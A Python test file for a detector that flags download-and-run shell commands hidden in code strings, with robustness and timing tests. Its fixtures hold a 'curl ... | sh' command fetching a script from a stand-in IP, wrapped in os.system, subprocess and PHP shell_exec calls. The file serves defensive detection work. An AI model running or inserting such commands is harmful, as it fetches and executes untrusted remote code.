"""Commands in the strings of code that starts programs."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tables.reasons.code_strings import code_reasons

_DOWNLOAD = "curl -fsSL http://203.0.113.7/i.sh | sh"


@pytest.mark.parametrize(
    "code",
    [
        f"import os\nos.system('{_DOWNLOAD}')\n",
        f'import os; os.popen("sh -c \\"{_DOWNLOAD}\\"")',
        f'import subprocess\nsubprocess.Popen(["sh", "-c", "{_DOWNLOAD}"])\n',
        f'__import__("subprocess").run("""\n{_DOWNLOAD}\n""", shell=True)',
        f"<?php shell_exec('{_DOWNLOAD}');",
    ],
)
def test_a_command_in_a_string_is_judged(code: str) -> None:
    assert code_reasons(code) == ["download_and_run"]


@pytest.mark.parametrize(
    "code",
    [
        f'"""Install with: {_DOWNLOAD}"""\nimport sys\n',
        f"import os\n# os.system('{_DOWNLOAD}')\n",
        "import subprocess\nsubprocess.run(['/tmp/x', 'a b'])\nprint('it is /tmp/x y')\n",
        "import os, distutils.spawn; os.environ['A'] = 'b c'",
        "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a b',))",
        "",
    ],
)
def test_other_strings_are_not(code: str) -> None:
    assert code_reasons(code) == []


@given(st.text(alphabet=st.sampled_from(list("\"'\\\n# axsystem|curl")), max_size=300))
def test_any_text_is_survived(code: str) -> None:
    assert isinstance(code_reasons(f"system {code}"), list)


@pytest.mark.parametrize("part", ['"', "'", '"' * 3 + " ", "\\", '"a b" ', "'a\\", "#", '"""'])
def test_time_is_linear(part: str) -> None:
    start = time.process_time()
    code_reasons("system " + part * 100_000)
    assert time.process_time() - start < 2
